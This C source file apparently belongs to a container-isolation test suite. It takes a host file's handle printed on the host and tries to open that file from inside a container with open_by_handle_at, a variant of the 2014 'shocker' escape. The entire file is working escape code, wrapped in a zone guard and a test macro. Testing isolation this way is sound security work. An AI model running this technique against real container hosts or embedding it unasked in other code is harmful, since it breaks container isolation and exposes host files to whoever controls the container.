// handle tell PATH     on the host: the file's handle, as open_by_handle_at(2) takes it; no attack
// handle open HANDLE   in a container: the file of the host's by its handle alone, on any file system that is in sight
// (the "shocker" of 2014, which guessed the handle: an inode's number).
#define ALSO_ON_THE_HOST
#include "attack.h"

union Handle {
  struct file_handle head;
  char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int tell(const char *path) {
  union Handle handle = {.head.handle_bytes = MAX_HANDLE_SZ};
  int mount;
  if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0) < 0) return perror(path), 1;
  printf("%d:", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.head.f_handle[i]);
  puts("");
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  if (!strcmp(argv[1], "tell")) return tell(argv[2]);
  refuse_outside_a_zone();
  union Handle handle = {.head.handle_type = atoi(argv[2])};
  const char *digits = strchr(argv[2], ':');
  if (!digits) return 2;
  for (digits++; digits[0] && digits[1] && handle.head.handle_bytes < MAX_HANDLE_SZ; digits += 2) {
    unsigned byte;
    if (sscanf(digits, "%2x", &byte) != 1) return 2;
    handle.head.f_handle[handle.head.handle_bytes++] = byte;
  }
  TRY("open by handle", open_by_handle_at(open("/", O_RDONLY), &handle.head, O_RDONLY));
  puts("end");
  return 0;
}
